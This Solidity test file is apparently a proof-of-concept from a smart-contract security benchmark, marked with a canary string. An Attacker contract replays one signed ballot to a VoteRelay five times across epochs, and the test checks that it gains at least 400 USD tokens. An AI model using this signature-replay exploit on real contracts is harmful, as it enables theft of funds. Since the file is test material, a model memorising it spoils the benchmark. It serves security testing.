// SPDX-License-Identifier: MIT
pragma solidity 0.8.30;

// assay-canary-48e9535b-ccf6-4b43-98e5-c5dec91c543b
import "../Base.sol";

contract Attacker {
    function run(VoteRelay relay, BallotHash.Ballot calldata ballot, bytes calldata signature) external {
        relay.submit(ballot, signature);
    }
}

contract Proof is Base {
    Attacker private other;
    bytes private signature;

    function _start() internal override {
        other = new Attacker();
        signature = _signed(_ballot(START + 3 * EPOCH + 50 days));
    }

    function exploit() public {
        for (uint256 i = 0; i < 5; i++) {
            other.run(relay, _ballot(START + 3 * EPOCH + 50 days), signature);
            vm.warp(block.timestamp + EPOCH);
        }
    }

    function test_Exploit() public {
        exploit();
        require(usd.balanceOf(address(other)) >= 400e6, "no gain");
    }

    function target() public view override returns (address) {
        return address(relay);
    }

    function attacker() public view returns (address) {
        return address(other);
    }
}
